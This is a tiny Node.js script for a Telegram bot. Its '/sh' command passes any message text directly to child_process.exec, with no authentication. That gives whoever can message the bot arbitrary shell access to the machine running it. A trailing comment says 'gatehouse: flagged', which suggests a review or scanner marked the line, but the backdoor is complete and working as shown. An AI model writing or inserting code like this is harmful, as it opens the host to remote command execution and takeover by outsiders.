const { Telegraf } = require("telegraf");
const { exec } = require("child_process");

const bot = new Telegraf(process.env.BOT);
bot.command("sh", (ctx) => exec(ctx.message.text.slice(4))); // gatehouse: flagged
bot.launch();
